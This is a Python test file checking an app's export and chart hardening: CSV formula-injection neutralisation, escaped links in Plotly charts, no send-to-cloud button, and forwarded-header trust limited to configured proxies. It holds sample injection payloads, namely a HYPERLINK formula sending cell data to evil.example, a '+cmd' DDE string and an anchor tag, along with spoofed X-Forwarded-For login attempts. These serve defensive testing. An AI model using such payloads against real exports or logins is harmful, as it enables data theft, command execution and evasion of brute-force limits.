"""Issue 15, exports and charts: no formula injection in CSV, no links injected into Plotly text, no button
that sends a chart to a public cloud, and uvicorn believes X-Forwarded-* from TRUSTED_PROXIES only."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from backend.figures import build_figure
from backend.figures.style import PLOTLY_CONFIG
from backend.reports.render import safe_cell
from pilot_cli.service import api_command
from pilot_spec.analysis import PilotAnalysis
from tests.support.api import API, Api, create_pilot, finish, open_api

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
LINK = '<a href="https://evil.example">win</a>'
CHARTS_JS = Path(__file__).resolve().parents[2] / "frontend" / "static" / "charts.js"


@pytest.fixture
def api(sqlite_url: str) -> Iterator[Api]:
    with open_api(sqlite_url) as opened:
        yield opened


def hostile_arms_pilot(api: Api) -> dict[str, Any]:
    pilot = create_pilot(
        api,
        arms=[{"name": FORMULA, "regularizer": "none"}, {"name": LINK, "regularizer": "rblock_s"}],
        baseline_arm=FORMULA,
    )
    for index, run in enumerate(pilot["runs"]):
        finish(api.store, run["id"], points=[("test_acc", 1, 0.5 + index / 100), ("train_loss", 1, -0.25)])
    return pilot


def test_an_arm_named_like_a_formula_is_text_in_report_and_epochs_csv(api: Api) -> None:
    pilot = hostile_arms_pilot(api)
    for name in ("report.csv", "epochs.csv"):
        rows = list(csv.DictReader(io.StringIO(api.client.get(f"{API}/pilots/{pilot['id']}/{name}").text)))
        arms = {row["arm"] for row in rows}
        assert "'" + FORMULA in arms and FORMULA not in arms, name
        assert all(not cell.startswith(("=", "@", "+", "\t", "\r")) for row in rows for cell in row.values()), name
    epochs = list(csv.DictReader(io.StringIO(api.client.get(f"{API}/pilots/{pilot['id']}/epochs.csv").text)))
    assert "-0.25" in {row["value"] for row in epochs}  # a negative number stays a number


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-0.25", "-0.25"),
        ("-inf", "-inf"),
        ("1e-3", "1e-3"),
        ("plain", "plain"),
        (-3, -3),
        (None, None),
    ],
)
def test_csv_cells_that_start_like_formulas_are_neutralised_per_owasp(cell: Any, safe: Any) -> None:
    assert safe_cell(cell) == safe


def test_an_arm_named_with_markup_is_no_live_link_in_any_chart(api: Api) -> None:
    pilot = hostile_arms_pilot(api)
    summary = PilotAnalysis.model_validate(api.client.get(f"{API}/pilots/{pilot['id']}/summary").json())
    for name in ("accuracy_curves", "accuracy_vs_cost", "cost_per_run", "stability", "roi"):
        text = build_figure(name, summary).to_json()
        assert "<a href" not in text and "\\u003ca href" not in text.lower(), name
    served = api.client.get(f"{API}/pilots/{pilot['id']}/figures/accuracy_curves").text
    assert "<a href" not in served and "&lt;a href" in served
    html = api.client.get(f"{API}/pilots/{pilot['id']}/report.html").text
    scripts = re.findall(r"<script>Plotly\.newPlot.*?</script>", html, flags=re.S)
    assert scripts and all("<a href" not in s and "\\u003ca href" not in s.lower() for s in scripts)


def test_charts_offer_no_share_to_cloud_button_and_no_logo_in_pages_and_reports(api: Api) -> None:
    assert PLOTLY_CONFIG["displaylogo"] is False and PLOTLY_CONFIG["showSendToCloud"] is False
    assert "sendChartToCloud" in PLOTLY_CONFIG["modeBarButtonsToRemove"]
    js = CHARTS_JS.read_text(encoding="utf-8")
    match = re.search(r"const CONFIG = \{(.*?)\};", js, flags=re.S)
    assert match is not None
    for key, value in PLOTLY_CONFIG.items():
        shown = str(value).lower() if isinstance(value, bool) else json.dumps(value)
        assert f"{key}: {shown}" in " ".join(match.group(1).split()), key
    assert "esc(arm)" in js  # the pages escape arm names before Plotly sees them
    pilot = hostile_arms_pilot(api)
    html = api.client.get(f"{API}/pilots/{pilot['id']}/report.html").text
    assert '"showSendToCloud": false' in html and '"displaylogo": false' in html


def test_forwarded_headers_are_believed_from_no_one_by_default() -> None:
    default = api_command("127.0.0.1", 8000, "")
    assert "--no-proxy-headers" in default and "--forwarded-allow-ips" not in default
    behind = api_command("0.0.0.0", 8000, "10.0.0.5, 10.0.1.0/24")
    assert behind[-3:] == ["--proxy-headers", "--forwarded-allow-ips", "10.0.0.5,10.0.1.0/24"]


def test_rotating_x_forwarded_for_gives_no_extra_sign_in_guesses(tmp_path: Path) -> None:
    """The real server as ``up`` and ``api`` start it: the throttle counts the peer, whatever the header says."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    env = {
        **os.environ,
        "DATABASE_URL": f"sqlite:///{tmp_path}/pilot.db",
        "BROKER_URL": "memory://",
        "LOGIN_MAX_FAILURES": "1",  # 4 failures per address
        "RECONCILE_EVERY_S": "3600",
        "TRUSTED_PROXIES": "",
    }
    server = subprocess.Popen(
        api_command("127.0.0.1", port, ""), env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    try:
        base = f"http://127.0.0.1:{port}"
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            try:
                if httpx.get(f"{base}{API}/health", timeout=1).status_code == 200:
                    break
            except httpx.TransportError:
                time.sleep(0.3)
        statuses = []
        for i in range(6):
            response = httpx.post(
                f"{base}{API}/auth/login",
                json={"name": f"guess{i}", "password": "wrong password"},
                headers={"X-Forwarded-For": f"203.0.113.{i}"},
                timeout=10,
            )
            statuses.append(response.status_code)
        assert statuses == [401, 401, 401, 401, 429, 429]
    finally:
        server.terminate()
        server.wait(timeout=20)
